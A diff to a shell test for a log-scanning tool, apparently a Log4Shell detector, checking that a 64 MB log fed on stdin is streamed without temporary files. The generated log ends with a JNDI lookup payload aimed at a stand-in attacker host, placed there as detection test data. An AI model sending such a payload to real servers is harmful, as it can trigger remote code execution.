@@ -149,17 +149,19 @@ X
     echo "$output" | jq_alerts '.kensa.verdict=="mitigated"'
 }
 
-@test "dos: 200 MB of log text on stdin is streamed, nothing spilled to TMPDIR" {
+@test "dos: 64 MB of log text on stdin is streamed, nothing spilled to TMPDIR" {
     command -v strace >/dev/null || skip "strace missing (scripts/install-deps.sh)"
     mkdir -p "$D/tmp"
     python3 -c '
 import sys
 line = b"10.0.0.1 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n"
-sys.stdout.buffer.write(line * (200 * 1024 * 1024 // len(line)))
+sys.stdout.buffer.write(line * (64 * 1024 * 1024 // len(line)))
 sys.stdout.buffer.write(b"203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\" 200 5\n")
 ' > "$D/big.txt"
     n=$(wc -l < "$D/big.txt")
-    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' timeout 60 strace -f -qq \
+    # (LeakSanitizer cannot run under ptrace: the ASan build skips it here)
+    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' \
+        ASAN_OPTIONS='${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0' timeout 300 strace -f -qq \
         -e trace=openat -o '$D/strace' '$KENSA' logs --json --no-summary --threads 1 -"
     rm -f "$D/big.txt"
     [ "$status" -eq 1 ]
